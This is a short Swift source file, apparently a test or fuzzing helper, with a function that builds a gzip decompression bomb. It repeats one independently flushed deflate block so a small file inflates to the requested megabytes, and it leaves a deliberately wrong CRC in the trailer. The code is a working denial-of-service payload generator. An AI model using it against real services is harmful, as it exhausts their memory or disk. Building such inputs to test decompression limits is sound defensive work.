import CZlib

/// A gzip file that inflates `unit` repeated to `megabytes` MB, from about a thousandth of that:
/// `unit` is compressed once with a full flush (which makes the block independent of what came
/// before), and the block is repeated. The trailer's CRC is that of one block, so a reader that
/// gets to the end refuses the file; the point is what it does before.
public func gzipBomb(repeating unit: String, megabytes: Int) -> [UInt8] {
  let megabyte = Array(String(repeating: unit, count: (1 << 20) / unit.utf8.count).utf8)
  var stream = z_stream()
  precondition(deflateInit2_(&stream, 9, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY, ZLIB_VERSION, Int32(MemoryLayout<z_stream>.size)) == Z_OK)
  defer { deflateEnd(&stream) }
  func deflate(_ input: [UInt8], _ flush: Int32) -> [UInt8] {
    var input = input
    var output = [UInt8](repeating: 0, count: input.count + 1024)
    input.withUnsafeMutableBufferPointer { inBuffer in
      output.withUnsafeMutableBufferPointer { outBuffer in
        stream.next_in = inBuffer.baseAddress
        stream.avail_in = UInt32(inBuffer.count)
        stream.next_out = outBuffer.baseAddress
        stream.avail_out = UInt32(outBuffer.count)
        precondition(CZlib.deflate(&stream, flush) != Z_STREAM_ERROR)
      }
    }
    return Array(output[..<(output.count - Int(stream.avail_out))])
  }
  let head = deflate(megabyte, Z_FULL_FLUSH)  // the gzip header and the first block
  let block = deflate(megabyte, Z_FULL_FLUSH)
  let tail = deflate([], Z_FINISH)
  return head + Array([[UInt8]](repeating: block, count: max(0, megabytes - 1)).joined()) + tail
}
